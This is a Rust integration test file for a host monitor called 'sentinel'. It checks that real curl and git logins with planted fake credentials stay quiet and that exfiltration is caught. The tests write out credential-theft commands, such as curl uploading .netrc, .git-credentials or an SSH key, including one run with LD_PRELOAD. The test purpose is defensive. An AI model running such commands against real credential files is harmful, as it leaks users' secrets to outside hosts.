//! Programs with secrets of their own: real clients that use them are quiet, and heard when they send them
//! elsewhere.

use std::{
    fs,
    io::{BufRead, BufReader},
    net::SocketAddr,
    os::unix::fs::PermissionsExt,
    path::{Path, PathBuf},
    process::{Command, Stdio},
};

use sentinel_analyzer::control;
use sentinel_tests::{
    bed::Bed,
    outside::{ADDRESS, Loot, Outside},
    sentinel::{PATIENCE, Sentinel, alerts, program, within},
};
use serde_json::Value;
use tempfile::TempDir;

/// Has a directory of the test's own as /run/sentinel, so that it is this one that is asked.
const APART: &str = r#"mkdir -p /run/sentinel && mount --bind "$0" /run/sentinel && exec "$@""#;
/// Who looks for secrets that leave.
const RULES: [&str; 2] = ["credential_exfil", "data_exfiltration"];
/// Has the dynamic loader load what the program does not ask for.
const PRELOADED: [&str; 2] = ["env", "LD_PRELOAD=libm.so.6"];

/// A server that lets in nobody, and prints its address and who asks; until its input ends.
const WANTS_TO_KNOW: &str = "
import http.server, sys, threading
class Handler(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        print(self.headers.get('Authorization'), flush=True)
        self.send_response(401)
        self.send_header('WWW-Authenticate', 'Basic realm=x')
        self.send_header('Content-Length', '0')
        self.end_headers()
    def log_message(self, *_):
        pass
server = http.server.ThreadingHTTPServer((sys.argv[1], 0), Handler)
print('%s:%d' % server.server_address, flush=True)
threading.Thread(target=server.serve_forever, daemon=True).start()
sys.stdin.read()
";

/// Somebody with a home, and the network outside.
struct Stage {
    bed: Bed,
    outside: Outside,
    home: PathBuf,
}

/// As hard to guess and to compress as a password, and so long that one request with it is no small one.
fn password() -> String {
    let mut state = 7_u32;
    let mut letter = || {
        state = state.wrapping_mul(1_664_525).wrapping_add(1_013_904_223);
        char::from(b'a' + (state >> 24) as u8 % 26)
    };
    (0..400).map(|_| letter()).collect()
}

impl Stage {
    fn new() -> Option<Self> {
        let (bed, outside) = (Bed::new()?, Outside::new());
        let home = bed.path("home");
        for directory in [home.clone(), home.join(".ssh"), bed.path("rules.d"), bed.path("run")] {
            fs::create_dir(&directory).unwrap();
            fs::set_permissions(directory, fs::Permissions::from_mode(0o755)).unwrap();
        }
        fs::set_permissions(bed.path(""), fs::Permissions::from_mode(0o755)).unwrap();
        let secrets = [
            (".netrc", format!("machine {ADDRESS} login deploy password {}\n", password())),
            (".git-credentials", format!("https://deploy:{}@example.org\n", password())),
            (".ssh/id_ed25519", format!("{}\n", password())),
        ];
        for (name, content) in secrets {
            let path = home.join(name);
            fs::write(&path, content).unwrap();
            fs::set_permissions(path, fs::Permissions::from_mode(0o600)).unwrap();
        }
        Some(Self { bed, outside, home })
    }

    /// One that can be told to read its rules again.
    fn start(&self) -> Sentinel {
        let mut command = Command::new("unshare");
        command.args(["--mount", "sh", "-c", APART]).arg(self.bed.path("run")).arg(program());
        let scope = format!("--scope-cgroup={}", self.bed.cgroup().display());
        let rules = format!("--rules={}", self.bed.path("rules.d").display());
        let log = format!("--correlation-log={}", self.correlation_log().display());
        let engines = ["--enable-grimoire", "--enable-correlation"];
        Sentinel::start_as(&self.bed, command, &[&scope, &rules, &log, engines[0], engines[1]])
    }

    fn correlation_log(&self) -> PathBuf {
        self.bed.path("correlation.json")
    }

    /// What both engines have said of secrets that leave, of the patterns' alerts those.
    fn told(&self, of_patterns: Vec<Value>) -> Vec<Value> {
        let all = of_patterns.into_iter().chain(alerts(&self.correlation_log()));
        all.filter(|alert| RULES.contains(&alert["pattern_name"].as_str().unwrap())).collect()
    }

    /// Runs the words, in which URL is a peer of their own, until `text` has come there. Returns its address.
    fn runs<S: AsRef<str>>(&self, words: &[S], text: &str) -> SocketAddr {
        let (there, loot) = self.outside.peer(ADDRESS);
        self.runs_for(words, text, there, &loot);
        there
    }

    /// Has git ask a server that wants to know who it is, until it has said so; returns the server's address.
    fn git(&self) -> SocketAddr {
        let mut server = self.outside.unseen_command("python3");
        server.args(["-c", WANTS_TO_KNOW, ADDRESS]).stdin(Stdio::piped()).stdout(Stdio::piped());
        let mut server = server.spawn().unwrap();
        let mut said = BufReader::new(server.stdout.take().unwrap()).lines().map(Result::unwrap);
        let there: SocketAddr = said.next().unwrap().parse().unwrap();
        let mut git = self.outside.command(&self.bed, "/usr/bin/git");
        git.args(["ls-remote", &format!("http://{there}/repository.git")]).env("HOME", &self.home);
        git.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).status().unwrap();
        assert!(said.any(|line| line.starts_with("Basic ")), "git does not say who it is");
        drop(server.stdin.take());
        server.wait().unwrap();
        there
    }

    fn runs_for<S: AsRef<str>>(&self, words: &[S], text: &str, there: SocketAddr, loot: &Loot) {
        let words =
            words.iter().map(|word| word.as_ref().replace("URL", &format!("http://{there}")));
        let words: Vec<String> = words.collect();
        let mut command = self.outside.command(&self.bed, &words[0]);
        command.args(&words[1..]).current_dir(&self.home).env("HOME", &self.home);
        // Git takes the answer for none.
        command.stdin(Stdio::null()).stdout(Stdio::null()).stderr(Stdio::null()).status().unwrap();
        let came = || String::from_utf8_lossy(&loot.bytes()).contains(text);
        assert!(within(PATIENCE, came), "{words:?} sends no {text}");
    }
}

/// Of each rule the critical ones about this peer: there is one.
fn assert_told(alerts: &[Value], peer: SocketAddr, file: &str) {
    for rule in RULES {
        let its: Vec<&Value> = alerts
            .iter()
            .filter(|alert| alert["remote_port"] == peer.port() && alert["pattern_name"] == rule)
            .filter(|alert| alert["severity"] == "critical")
            .collect();
        let [alert] = its.as_slice() else { panic!("{rule}, {file}: {alerts:#?}") };
        assert!(alert["message"].as_str().unwrap().contains(file), "{alert:#}");
    }
}

fn quiet_peers(alerts: &[Value], peers: &[SocketAddr]) {
    for peer in peers {
        let its = alerts.iter().find(|alert| alert["remote_port"] == peer.port());
        assert_eq!(its, None, "{peer}");
    }
}

#[test]
fn curl_uses_its_netrc_and_is_told_to_send_it() {
    let Some(stage) = Stage::new() else { return };
    let sentinel = stage.start();
    let netrc = stage.home.join(".netrc").display().to_string();
    let basic = "Authorization: Basic";
    let honest = [
        stage.runs(&["curl", "-sn", "URL/"], basic),
        stage.runs(&["curl", "-s", "--netrc-file", &netrc, "-d", "x=y", "URL/"], basic),
        stage.git(),
    ];
    let part = &password()[..100];
    let uploads = [
        stage.runs(&["curl", "-s", "-T", &netrc, "URL/"], part),
        stage.runs(&["curl", "-s", "-T.netrc", "URL/"], part),
        stage.runs(&[PRELOADED[0], PRELOADED[1], "curl", "-sn", "URL/"], basic),
    ];
    let others = stage.runs(&["curl", "-s", "-d", "@.git-credentials", "URL/"], part);
    let alerts = stage.told(sentinel.stop().alerts);
    quiet_peers(&alerts, &honest);
    for peer in uploads {
        assert_told(&alerts, peer, "/home/.netrc");
    }
    assert_told(&alerts, others, "/home/.git-credentials");
}

/// A copy of curl that only root can have put there.
fn deploy() -> (TempDir, String) {
    let directory = tempfile::tempdir_in("/opt").unwrap();
    fs::set_permissions(directory.path(), fs::Permissions::from_mode(0o755)).unwrap();
    let path = directory.path().join("deploy");
    assert!(Command::new("cp").args(["/usr/bin/curl"]).arg(&path).status().unwrap().success());
    let path = path.display().to_string();
    (directory, path)
}

#[test]
fn operators_add_a_client_that_goes_to_its_own_port() {
    let Some(stage) = Stage::new() else { return };
    let (_directory, deploy) = deploy();
    let sentinel = stage.start();
    let (there, loot) = stage.outside.peer(ADDRESS);
    let (control, rules) = (stage.bed.path("run/control.sock"), stage.bed.path("rules.d"));
    let part = &password()[..100];
    let words = [deploy.as_str(), "-s", "-T", ".ssh/id_ed25519", "URL/"];
    let critical =
        |alerts: &[Value]| alerts.iter().filter(|alert| alert["severity"] == "critical").count();
    stage.runs_for(&words, part, there, &loot);
    let found = within(PATIENCE, || critical(&stage.told(alerts(sentinel.log()))) == 2);
    assert!(found, "{:#?}", alerts(sentinel.log()));

    let client = |class: &str, port: u16| {
        format!(
            "[[client]]\nwhy = \"deploys to its host\"\nexe = \"{deploy}\"\nclass = \"{class}\"\n\
             file = \".ssh/id_ed25519\"\nport = {port}\n"
        )
    };
    let file = rules.join("deploy.toml");
    fs::write(&file, client("ssh_keys", there.port())).unwrap();
    let refused = control::reload_rules(&control).unwrap().unwrap_err();
    let wrong = format!("{}:4:9: `ssh_keys` is no class of secrets", file.display());
    assert!(refused.contains(&wrong) && refused.contains("hold on"), "{refused}");
    fs::write(&file, client("ssh_key", there.port())).unwrap();
    let told = control::reload_rules(&control).unwrap().unwrap();
    assert!(told.ends_with("the same as before; other clients than before"), "{told}");

    loot.bytes().clear();
    stage.runs_for(&words, part, there, &loot);
    let elsewhere = stage.runs(&words, part);
    let mut preloaded = PRELOADED.to_vec();
    preloaded.extend(words);
    let preloaded = stage.runs(&preloaded, part);
    let alerts = stage.told(sentinel.stop().alerts);
    assert_told(&alerts, there, "id_ed25519");
    assert_told(&alerts, elsewhere, "id_ed25519");
    assert_told(&alerts, preloaded, "id_ed25519");
    assert_eq!(critical(&alerts), 6, "{alerts:#?}");
}

#[test]
fn a_client_that_is_wrong_starts_nothing() {
    let directory = tempfile::tempdir().unwrap();
    let file = directory.path().join("own.toml");
    let wrong = |arguments: &[&str], text: &str| {
        fs::write(&file, text).unwrap();
        let output = Command::new(program()).args(arguments).output().unwrap();
        assert_eq!(output.status.code(), Some(1));
        String::from_utf8_lossy(&output.stderr).into_owned()
    };
    let rules = format!("--rules={}", directory.path().display());
    let (run, check) = (["run", &rules, "--duration=1"], ["rules", "check", path(&file)]);
    let client = "[[client]]\nwhy = \"w\"\nclass = \"ssh_key\"\n";
    for arguments in [run.as_slice(), check.as_slice()] {
        let told = wrong(arguments, &format!("{client}exe = \"/usr/bin/python3\"\n"));
        let why = "own.toml:4:7: `/usr/bin/python3` runs whatever it is given";
        assert!(told.contains(why), "{told}");
        let told = wrong(arguments, &format!("{client}exe = \"/opt/x\"\nports = 22\n"));
        assert!(told.contains("own.toml:5:1: `ports` is no key of a client: did you mean `port`?"));
    }
}

fn path(path: &Path) -> &str {
    path.to_str().unwrap()
}
